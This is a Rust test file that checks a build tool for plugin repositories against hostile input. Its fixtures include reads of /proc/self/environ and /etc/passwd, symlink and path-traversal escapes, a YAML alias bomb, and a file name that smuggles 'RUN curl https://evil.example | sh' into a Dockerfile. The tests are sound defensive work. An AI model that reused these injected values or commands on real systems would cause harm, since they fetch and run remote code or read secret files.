//! Running on untrusted repositories: every hostile case of the issue is a
//! fixture built at test time (symbolic links, FIFOs and long names included),
//! and the tool must answer with a located diagnostic and a clean exit status:
//! nothing read outside the workspace, nothing written outside the named
//! folders, no hang, no abort.

use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::Value;

use crate::helpers::{Run, copy_tree, run, workspace_root, xtask};

/// A workspace (a `Cargo.toml` with `[workspace]` and `extra` metadata) holding
/// a copy of `pieces-repos/`, edited by `edit`.
fn workspace_with(metadata: &str, edit: impl FnOnce(&Path)) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(
        &workspace_root().join("pieces-repos"),
        &dir.path().join("pieces-repos"),
    );
    // The workspace's own configuration (source URLs), plus `metadata`.
    let manifest = std::fs::read_to_string(workspace_root().join("Cargo.toml")).unwrap();
    let settings = &manifest[manifest.find("[workspace.metadata.pieces]").unwrap()..];
    let settings = settings.replacen(
        "[workspace.metadata.pieces]\n",
        &format!("[workspace.metadata.pieces]\n{metadata}\n"),
        1,
    );
    std::fs::write(
        dir.path().join("Cargo.toml"),
        format!("[workspace]\n\n{settings}"),
    )
    .unwrap();
    edit(&dir.path().join("pieces-repos"));
    dir
}

fn workspace(edit: impl FnOnce(&Path)) -> tempfile::TempDir {
    workspace_with("", edit)
}

/// Runs a command of the binary with JSON messages, killed after 60 s (a hang
/// is a failure, not a stuck test run).
fn xtask_json(cwd: &Path, args: &[&str]) -> Run {
    let mut command = xtask(cwd);
    command
        .args(args)
        .args(["--message-format", "json"])
        .timeout(Duration::from_secs(60));
    run(&mut command)
}

/// The diagnostics with `code`, as (file, line, column, message).
fn with_code(run: &Run, code: &str) -> Vec<(String, u64, u64, String)> {
    run.diagnostics()
        .iter()
        .filter(|d| d["code"] == code)
        .map(|d| {
            (
                d["file"].as_str().unwrap_or("").to_string(),
                d["line"].as_u64().unwrap_or(0),
                d["column"].as_u64().unwrap_or(0),
                d["message"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

/// Asserts an exit status and that a diagnostic with `code` names `file` (a
/// suffix) at `line` (0: a path-only location).
fn assert_reported(run: &Run, status: i32, code: &str, file: &str, line: u64) {
    assert_eq!(run.code, status, "{}\n{}", run.stdout, run.stderr);
    let found = with_code(run, code);
    assert!(
        found
            .iter()
            .any(|(path, at, _, _)| path.ends_with(file) && *at == line),
        "no {code} at {file}:{line} in {found:?}\n{}",
        run.stdout
    );
}

/// Every file under `dir` (relative path -> bytes).
fn tree(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files: Vec<(PathBuf, Vec<u8>)> = walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            (
                e.path().strip_prefix(dir).unwrap().to_path_buf(),
                std::fs::read(e.path()).unwrap(),
            )
        })
        .collect();
    files.sort();
    files
}

/// Does any file under `dir` contain `needle`?
fn any_file_contains(dir: &Path, needle: &[u8]) -> Option<PathBuf> {
    tree(dir)
        .into_iter()
        .find(|(_, bytes)| bytes.windows(needle.len()).any(|w| w == needle))
        .map(|(path, _)| path)
}

fn mkfifo(path: &Path) {
    let _ = std::fs::remove_file(path);
    let status = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success());
}

const GEO: &str = "geospatial-pieces";

#[test]
fn includes_of_files_outside_the_workspace_are_errors_at_their_line_and_never_read() {
    let secret = "XTASK-TEST-SECRET-7f3a";
    for target in ["/proc/self/environ", "/etc/passwd"] {
        let dir = workspace(|repos| {
            let file = repos.join(GEO).join("dependencies/requirements_geo.txt");
            let text = std::fs::read_to_string(&file).unwrap();
            std::fs::write(&file, format!("{text}-r {target}\n")).unwrap();
        });
        let check = run(xtask(dir.path())
            .args(["check", "--message-format", "json"])
            .env("XTASK_SECRET", secret));
        let line = std::fs::read_to_string(
            dir.path()
                .join("pieces-repos")
                .join(GEO)
                .join("dependencies/requirements_geo.txt"),
        )
        .unwrap()
        .lines()
        .count() as u64;
        assert_reported(
            &check,
            1,
            "input::outside-trusted-folders",
            "requirements_geo.txt",
            line,
        );
        let build = run(xtask(dir.path())
            .args(["build-all", "--message-format", "json"])
            .env("XTASK_SECRET", secret));
        assert_eq!(build.code, 1);
        for output in [&check.stdout, &check.stderr, &build.stdout, &build.stderr] {
            assert!(!output.contains(secret) && !output.contains("root:x:0:0"));
        }
        assert_eq!(any_file_contains(dir.path(), secret.as_bytes()), None);
        assert_eq!(any_file_contains(dir.path(), b"root:x:0:0"), None);
    }
}

#[cfg(unix)]
#[test]
fn symbolic_links_out_of_the_workspace_are_refused_without_being_read() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "TOP-SECRET-LINE\nsecond line\n").unwrap();
    let dir = workspace(|repos| {
        let link = |path: &str| {
            let path = repos.join(path);
            std::fs::remove_file(&path).ok();
            std::os::unix::fs::symlink(&secret, &path).unwrap();
        };
        link("geospatial-pieces/dependencies/requirements_raster.txt");
        link("text-analytics-pieces/pieces/TokenizeTextPiece/metadata.json");
        link("vision-robustness-dioptra/dioptra.toml");
    });
    let check = xtask_json(dir.path(), &["check"]);
    assert_reported(
        &check,
        1,
        "input::outside-trusted-folders",
        "requirements_raster.txt",
        0,
    );
    assert_reported(
        &check,
        1,
        "input::outside-trusted-folders",
        "TokenizeTextPiece/metadata.json",
        0,
    );
    assert_reported(
        &check,
        1,
        "input::outside-trusted-folders",
        "vision-robustness-dioptra/dioptra.toml",
        0,
    );
    let build = xtask_json(dir.path(), &["build-all"]);
    assert_eq!(build.code, 1);
    for output in [&check.stdout, &check.stderr, &build.stdout, &build.stderr] {
        assert!(!output.contains("TOP-SECRET"), "{output}");
    }
    assert_eq!(any_file_contains(dir.path(), b"TOP-SECRET"), None);
}

#[test]
fn a_version_that_would_leave_the_dist_is_an_error_and_nothing_is_written_outside() {
    let escape = tempfile::tempdir().unwrap();
    let target = escape.path().join("x");
    let version = format!(
        "x{}/../../../../../../..{}",
        "y".repeat(120),
        target.display()
    );
    let dir = workspace_with("tag = \"nightly\"", |repos| {
        let config = repos.join(GEO).join("config.toml");
        let text = std::fs::read_to_string(&config).unwrap();
        std::fs::write(
            &config,
            text.replace("VERSION = \"0.3.1\"", &format!("VERSION = \"{version}\"")),
        )
        .unwrap();
    });
    let check = xtask_json(dir.path(), &["check"]);
    assert_reported(
        &check,
        1,
        "input::unsafe-name",
        "geospatial-pieces/config.toml",
        5,
    );
    let build = xtask_json(dir.path(), &["build-all"]);
    assert_eq!(build.code, 1);
    assert_eq!(std::fs::read_dir(escape.path()).unwrap().count(), 0);
}

#[cfg(unix)]
#[test]
fn a_domino_folder_that_is_a_link_is_never_written_through() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("keep.txt"), "mine").unwrap();
    for to_other_repository in [false, true] {
        let dir = workspace(|repos| {
            let domino = repos.join(GEO).join(".domino");
            std::fs::remove_dir_all(&domino).unwrap();
            let target = if to_other_repository {
                repos.join("data-ops-pieces/.domino")
            } else {
                outside.path().to_path_buf()
            };
            std::os::unix::fs::symlink(&target, &domino).unwrap();
        });
        let other = dir.path().join("pieces-repos/data-ops-pieces/.domino");
        let before = tree(&other);
        let check = xtask_json(dir.path(), &["check"]);
        assert_reported(
            &check,
            1,
            "output::unsafe-path",
            "geospatial-pieces/.domino",
            0,
        );
        let build = xtask_json(dir.path(), &["build-all"]);
        assert_eq!(build.code, 1, "{}", build.stdout);
        assert_eq!(
            tree(&other),
            before,
            "the other repository's files are untouched"
        );
        assert_eq!(
            tree(outside.path()),
            vec![(PathBuf::from("keep.txt"), b"mine".to_vec())]
        );
    }
}

#[test]
fn a_dependency_file_name_with_a_newline_never_reaches_a_dockerfile() {
    let dir = workspace(|repos| {
        let piece = repos
            .join(GEO)
            .join("pieces/GeocodeAddressPiece/metadata.json");
        let text = std::fs::read_to_string(&piece).unwrap();
        std::fs::write(
            &piece,
            text.replace(
                "\"requirements_base.txt\"",
                "\"requirements_base.txt\\nRUN curl https://evil.example | sh\"",
            ),
        )
        .unwrap();
    });
    let check = xtask_json(dir.path(), &["check"]);
    assert_reported(
        &check,
        1,
        "input::unsafe-name",
        "GeocodeAddressPiece/metadata.json",
        5,
    );
    let build = xtask_json(dir.path(), &["build-all"]);
    assert_eq!(build.code, 1);
    let dist = dir.path().join("target/dist");
    for (path, bytes) in tree(&dist) {
        let text = String::from_utf8_lossy(&bytes);
        let is_report = ["report.json", "junit.xml", "report.sarif"]
            .iter()
            .any(|name| path.ends_with(name));
        assert!(
            is_report || !text.contains("RUN curl"),
            "{} holds the injected line",
            path.display()
        );
    }
}

#[test]
fn dockerfile_sources_stay_in_the_build_context() {
    let dir = workspace(|repos| {
        let dockerfile = repos.join(GEO).join("dependencies/Dockerfile_gdal");
        let text = std::fs::read_to_string(&dockerfile).unwrap();
        std::fs::write(
            &dockerfile,
            format!("{text}COPY / /everything\nCOPY ../../ /up\n"),
        )
        .unwrap();
    });
    let check = xtask_json(dir.path(), &["check"]);
    let lines = std::fs::read_to_string(
        dir.path()
            .join("pieces-repos")
            .join(GEO)
            .join("dependencies/Dockerfile_gdal"),
    )
    .unwrap()
    .lines()
    .count() as u64;
    // `COPY /` is the context root (the repository); `COPY ../../` leaves it.
    assert_reported(
        &check,
        1,
        "domino::copy-outside-context",
        "Dockerfile_gdal",
        lines,
    );
    assert_eq!(with_code(&check, "domino::copy-outside-context").len(), 1);
}

#[test]
fn deep_nesting_in_python_is_a_diagnostic_not_an_abort() {
    for (file, nested) in [
        (
            "geospatial-pieces/pieces/GeocodeAddressPiece/models.py",
            "[".repeat(50_000),
        ),
        (
            "geospatial-pieces/pieces/ClipRasterPiece/piece.py",
            "-".repeat(50_000),
        ),
        (
            "tabular-audit-dioptra/plugins/tabular_io/readers.py",
            "not ".repeat(50_000),
        ),
    ] {
        let dir = workspace(|repos| {
            let path = repos.join(file);
            let text = std::fs::read_to_string(&path).unwrap();
            std::fs::write(&path, format!("{text}\nx = {nested}1\n")).unwrap();
        });
        let check = xtask_json(dir.path(), &["check"]);
        assert_eq!(check.code, 1, "{file}: {}", check.stderr);
        let found = with_code(&check, "input::resource-limit");
        assert!(
            found
                .iter()
                .any(|(path, line, _, _)| path.ends_with(file) && *line > 0),
            "{file}: {found:?}"
        );
    }
}

#[test]
fn a_large_string_in_metadata_is_read_in_linear_time() {
    let dir = workspace(|repos| {
        let path = repos
            .join(GEO)
            .join("pieces/GeocodeAddressPiece/metadata.json");
        let text = std::fs::read_to_string(&path).unwrap();
        let long = "é".repeat(2 * 1024 * 1024);
        std::fs::write(
            &path,
            text.replacen("\"Turns postal", &format!("\"{long} Turns postal"), 1),
        )
        .unwrap();
    });
    // A quadratic reader takes minutes on 4 MB; a linear one milliseconds.
    let check = xtask_json(dir.path(), &["check"]);
    assert_ne!(check.code, -1, "killed after the timeout");
    assert!(check.code == 0 || check.code == 1, "{}", check.stderr);
}

#[cfg(unix)]
#[test]
fn named_pipes_and_devices_are_refused_without_hanging() {
    let dir = workspace(|repos| {
        mkfifo(&repos.join("tabular-audit-dioptra/extra/dioptra_optic.toml"));
        mkfifo(&repos.join("vision-robustness-dioptra/dioptra.toml"));
        mkfifo(&repos.join(GEO).join("dependencies/requirements_base.txt"));
        mkfifo(&repos.join("data-ops-pieces/.domino/compiled_metadata.json"));
        let zero = repos.join("text-analytics-pieces/dependencies/requirements_nlp.txt");
        std::fs::remove_file(&zero).ok();
        std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    });
    let check = xtask_json(dir.path(), &["check"]);
    assert_ne!(check.code, -1, "the run hung");
    assert_reported(
        &check,
        1,
        "input::special-file",
        "vision-robustness-dioptra/dioptra.toml",
        0,
    );
    assert_reported(&check, 1, "input::special-file", "requirements_base.txt", 0);
    assert_reported(
        &check,
        1,
        "input::outside-trusted-folders",
        "text-analytics-pieces/dependencies/requirements_nlp.txt",
        0,
    );
    let build = xtask_json(dir.path(), &["build-all"]);
    assert_ne!(build.code, -1, "the build hung");
    assert_eq!(build.code, 1);
}

#[test]
fn a_dist_that_holds_inputs_is_refused_and_nothing_is_deleted() {
    let dir = workspace(|_| {});
    let before = tree(&dir.path().join("pieces-repos"));
    for dist in [
        "pieces-repos",
        ".",
        "pieces-repos/geospatial-pieces",
        "pieces-repos/x",
    ] {
        let build = xtask_json(dir.path(), &["build-all", "--dist", dist]);
        assert_eq!(build.code, 2, "--dist {dist}: {}", build.stdout);
        let found = with_code(&build, "env::unsafe-dist");
        assert_eq!(found.len(), 1, "--dist {dist}: {}", build.stdout);
    }
    let docs = dir.path().join("docs");
    std::fs::create_dir_all(&docs).unwrap();
    std::fs::write(docs.join("index.md"), "mine").unwrap();
    let build = xtask_json(dir.path(), &["build-all", "--dist", "docs"]);
    assert_eq!(build.code, 2, "a folder the tool did not make");
    assert_eq!(std::fs::read(docs.join("index.md")).unwrap(), b"mine");
    assert_eq!(tree(&dir.path().join("pieces-repos")), before);
}

#[test]
fn two_builds_at_once_serialize_and_leave_nothing_behind() {
    let dir = workspace(|_| {});
    let spawn = || {
        std::process::Command::new(assert_cmd::cargo::cargo_bin("xtask"))
            .current_dir(dir.path())
            .env("CI", "true")
            .args(["build-all", "--quiet"])
            .spawn()
            .unwrap()
    };
    let (mut a, mut b) = (spawn(), spawn());
    assert!(a.wait().unwrap().success());
    assert!(b.wait().unwrap().success());
    let target: Vec<String> = std::fs::read_dir(dir.path().join("target"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        target.iter().all(|name| !name.starts_with(".dist.")),
        "{target:?}"
    );
}

#[test]
fn byte_order_marks_are_refused_like_python_does() {
    let dir = workspace(|repos| {
        for path in [
            "geospatial-pieces/pieces/GeocodeAddressPiece/metadata.json",
            "data-ops-pieces/config.toml",
            "tabular-audit-dioptra/dioptra.toml",
        ] {
            let path = repos.join(path);
            let mut bytes = b"\xef\xbb\xbf".to_vec();
            bytes.extend(std::fs::read(&path).unwrap());
            std::fs::write(&path, bytes).unwrap();
        }
    });
    let check = xtask_json(dir.path(), &["check"]);
    assert_reported(
        &check,
        1,
        "domino::json-syntax",
        "GeocodeAddressPiece/metadata.json",
        1,
    );
    assert_reported(
        &check,
        1,
        "domino::toml-syntax",
        "data-ops-pieces/config.toml",
        1,
    );
    assert_reported(
        &check,
        1,
        "dioptra::toml-syntax",
        "tabular-audit-dioptra/dioptra.toml",
        1,
    );
}

#[cfg(target_os = "linux")]
#[test]
fn file_names_that_are_not_utf8_are_errors_not_renamed() {
    use std::os::unix::ffi::OsStrExt;
    let dir = workspace(|repos| {
        let folder = repos.join(GEO).join("pieces/GeocodeAddressPiece");
        for name in [&b"data-\xff.csv"[..], &b"data-\xfe.csv"[..]] {
            std::fs::write(folder.join(std::ffi::OsStr::from_bytes(name)), "x").unwrap();
        }
    });
    let check = xtask_json(dir.path(), &["check"]);
    assert_eq!(check.code, 1);
    assert_eq!(
        with_code(&check, "input::unsafe-name").len(),
        2,
        "{}",
        check.stdout
    );
}

#[cfg(unix)]
#[test]
fn rewritten_generated_files_keep_their_mode() {
    use std::os::unix::fs::PermissionsExt;
    let dir = workspace(|repos| {
        let config = repos.join(GEO).join("config.toml");
        let text = std::fs::read_to_string(&config).unwrap();
        std::fs::write(&config, text.replace("0.3.1", "0.3.2")).unwrap();
    });
    let metadata = dir
        .path()
        .join("pieces-repos")
        .join(GEO)
        .join(".domino/dependencies_map.json");
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    std::fs::set_permissions(&metadata, std::fs::Permissions::from_mode(0o664)).unwrap();
    let build = xtask_json(dir.path(), &["build-all"]);
    assert_eq!(build.code, 0, "{}", build.stdout);
    assert!(
        std::fs::read_to_string(&metadata)
            .unwrap()
            .contains("0.3.2"),
        "rewritten"
    );
    assert_eq!(mode(&metadata), 0o664);
    let bundle = dir.path().join("target/dist/catalog.json");
    assert_eq!(mode(&bundle), 0o644);
}

#[cfg(unix)]
#[test]
fn a_config_toml_that_is_not_a_file_is_an_error() {
    for make in ["fifo", "folder"] {
        let dir = workspace(|repos| {
            let config = repos.join("data-ops-pieces/config.toml");
            std::fs::remove_file(&config).unwrap();
            match make {
                "fifo" => mkfifo(&config),
                _ => std::fs::create_dir(&config).unwrap(),
            }
        });
        let check = xtask_json(dir.path(), &["check"]);
        assert_eq!(check.code, 1, "{make}: {}", check.stdout);
        let located = check.diagnostics().iter().any(|d: &Value| {
            d["severity"] == "error"
                && d["file"]
                    .as_str()
                    .is_some_and(|f| f.ends_with("data-ops-pieces/config.toml"))
        });
        assert!(located, "{make}: {}", check.stdout);
    }
}

/// The dist, the generated files of the repositories, and what lies beside
/// them that a run may leave (staging folders, temporary files).
struct State {
    dist: Vec<(PathBuf, Vec<u8>)>,
    generated: Vec<(PathBuf, Vec<u8>)>,
}

fn state(dir: &Path) -> State {
    let dist = dir.join("target/dist");
    let generated = tree(&dir.join("pieces-repos"))
        .into_iter()
        .filter(|(path, _)| path.components().any(|c| c.as_os_str() == ".domino"))
        // Temporary files of a killed run are leftovers, removed by the next run.
        .filter(|(path, _)| {
            !path
                .file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with(".xtask-")
        })
        .collect();
    State {
        dist: if dist.exists() {
            tree(&dist)
        } else {
            Vec::new()
        },
        generated,
    }
}

fn leftovers(dir: &Path) -> Vec<PathBuf> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .map(|e| e.into_path())
        .filter(|path| {
            let name = path.file_name().unwrap().to_string_lossy();
            (name.starts_with(".xtask-") && name.ends_with(".tmp"))
                || name.starts_with(".dist.staging-")
        })
        .collect()
}

#[cfg(unix)]
#[test]
fn a_build_killed_anywhere_leaves_the_old_or_the_new_state_and_the_next_run_completes_it() {
    // Two states of one workspace: VERSION bumped or not (every file of the
    // dist and the generated files change with it).
    let set_bumped = |repos: &Path, bumped: bool| {
        for repo in [GEO, "data-ops-pieces"] {
            let config = repos.join(repo).join("config.toml");
            let text = std::fs::read_to_string(&config).unwrap();
            let text = text.replace("VERSION = \"9.", "VERSION = \"");
            let text = if bumped {
                text.replace("VERSION = \"", "VERSION = \"9.")
            } else {
                text
            };
            std::fs::write(&config, text).unwrap();
        }
    };
    let built = |dir: &Path| {
        let build = run(xtask(dir).args(["build-all", "--quiet"]));
        assert_eq!(build.code, 0, "{}", build.stderr);
        state(dir)
    };
    let dir = workspace(|_| {});
    let old = built(dir.path());
    set_bumped(&dir.path().join("pieces-repos"), true);
    let new = built(dir.path());
    assert_ne!(old.dist, new.dist);
    assert_ne!(old.generated, new.generated);

    let binary = assert_cmd::cargo::cargo_bin("xtask");
    let (mut killed, mut finished) = (0, 0);
    for step in 0..30u64 {
        // Every run goes to the other state, so every run writes.
        set_bumped(&dir.path().join("pieces-repos"), step % 2 == 1);
        let mut child = std::process::Command::new(&binary)
            .current_dir(dir.path())
            .env("CI", "true")
            .args(["build-all", "--quiet"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(step * 7));
        if child.try_wait().unwrap().is_some() {
            finished += 1;
        } else {
            child.kill().unwrap();
            killed += 1;
        }
        child.wait().unwrap();
        let now = state(dir.path());
        assert!(
            now.dist == old.dist || now.dist == new.dist,
            "killed after {} ms: the dist is neither the old nor the new one",
            step * 7
        );
        // Each generated file is whole: old or new bytes, never a part.
        for (path, bytes) in &now.generated {
            let whole =
                |state: &State| state.generated.iter().any(|(p, b)| p == path && b == bytes);
            assert!(whole(&old) || whole(&new), "{} is torn", path.display());
        }
    }
    assert!(
        killed > 5,
        "the kills must land in the middle of runs ({killed} did)"
    );
    let _ = finished;
    set_bumped(&dir.path().join("pieces-repos"), true);
    let last = built(dir.path());
    assert!(
        last.dist == new.dist,
        "the next run's dist is the uninterrupted one"
    );
    assert!(last.generated == new.generated);
    assert_eq!(leftovers(dir.path()), Vec::<PathBuf>::new());
}

#[test]
fn a_yaml_alias_bomb_and_deep_yaml_are_diagnostics_not_an_abort() {
    let bomb = {
        let mut text = String::from("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (previous, name) in "abcdefgh".chars().zip("bcdefghi".chars()) {
            let refs = vec![format!("*{previous}"); 9].join(", ");
            text.push_str(&format!("{name}: &{name} [{refs}]\n"));
        }
        text + "graph:\n  step:\n    load_table:\n      path: *i\n"
    };
    for (name, text) in [
        ("bomb", bomb),
        (
            "deep",
            format!("graph: {}1{}\n", "[".repeat(50_000), "]".repeat(50_000)),
        ),
    ] {
        let dir = workspace(|repos| {
            std::fs::write(
                repos.join("tabular-audit-dioptra/entrypoints/parity_audit.yml"),
                &text,
            )
            .unwrap();
        });
        let check = xtask_json(dir.path(), &["check"]);
        assert_eq!(check.code, 1, "{name}: {}", check.stderr);
        assert!(
            with_code(&check, "input::resource-limit")
                .iter()
                .any(|(file, line, _, _)| file.ends_with("parity_audit.yml") && *line > 0),
            "{name}: {}",
            check.stdout
        );
    }
}
